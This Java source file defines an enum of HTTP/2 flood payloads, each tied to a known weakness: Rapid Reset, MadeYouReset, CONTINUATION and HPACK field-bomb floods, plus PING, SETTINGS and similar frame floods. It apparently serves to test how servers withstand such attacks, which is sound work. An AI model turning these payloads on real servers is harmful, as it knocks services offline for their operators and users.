package dev.banyan.http;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;

/// What is sent over and over on one HTTP/2 connection to wear a server out, one kind each, with
/// the weakness that it is known by.
public enum Flood {
  /// Requests that are reset at once (CVE-2023-44487).
  RAPID_RESET {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      int stream = 2 * round + 1;
      return to.request(stream, RawHttp2.END_STREAM, RawHttp2.get("/work"))
          && to.send(RawHttp2.RST_STREAM, 0, stream, number(8));
    }
  },
  /// Requests made so that the server resets them (CVE-2025-8671).
  MADE_YOU_RESET {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      int stream = 2 * round + 1;
      return to.request(stream, RawHttp2.END_STREAM, RawHttp2.get("/work"))
          && to.send(RawHttp2.WINDOW_UPDATE, 0, stream, number(0));
    }
  },
  /// More streams than may be open, each of which is refused.
  STREAMS {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return to.request(2 * round + 1, 0, RawHttp2.post("/work"));
    }
  },
  /// A head that never ends (CVE-2024-27316).
  CONTINUATION {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return round == 0
          ? to.send(RawHttp2.HEADERS, 0, 1, RawHttp2.block(RawHttp2.get("/")))
          : to.send(RawHttp2.CONTINUATION, 0, 1, new byte[round % 3]);
    }
  },
  PING {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return to.send(RawHttp2.PING, 0, 0, new byte[8]);
    }
  },
  SETTINGS {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return to.send(RawHttp2.SETTINGS, 0, 0, new byte[0]);
    }
  },
  /// Settings that resize the table of fields, over and over.
  TABLE_SIZE {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      byte[] size = ByteBuffer.allocate(6).putShort((short) 1).putInt(round % 2 * 4096).array();
      return to.send(RawHttp2.SETTINGS, 0, 0, size);
    }
  },
  PRIORITY {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return to.send(2, 0, 2 * round + 1, new byte[5]);
    }
  },
  /// Body pieces of nothing but padding.
  PADDING {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return round == 0
          ? to.request(1, 0, RawHttp2.post("/work"))
          : to.send(RawHttp2.DATA, 8, 1, new byte[] {2, 0, 0});
    }
  },
  WINDOW_UPDATE {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return to.send(RawHttp2.WINDOW_UPDATE, 0, 0, number(1));
    }
  },
  UNKNOWN {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      return to.send(99, 0, 0, new byte[1]);
    }
  },
  /// One long field in the table, referred to thousands of times (CVE-2016-6581).
  FIELD_BOMB {
    @Override
    public boolean send(RawHttp2 to, int round) throws IOException {
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      block.writeBytes(RawHttp2.block(RawHttp2.get("/")));
      byte[] literal = RawHttp2.block("x-bomb", "b".repeat(3900));
      literal[0] = 0x40; // with indexing: it becomes the table's first entry
      block.writeBytes(literal);
      block.writeBytes(
          "\u00be".repeat(12_000).getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
      return to.send(RawHttp2.HEADERS, 5, 2 * round + 1, block.toByteArray());
    }
  };

  /// Sends one round; false where the other side has closed.
  public abstract boolean send(RawHttp2 to, int round) throws IOException;

  private static byte[] number(int number) {
    return ByteBuffer.allocate(4).putInt(number).array();
  }
}
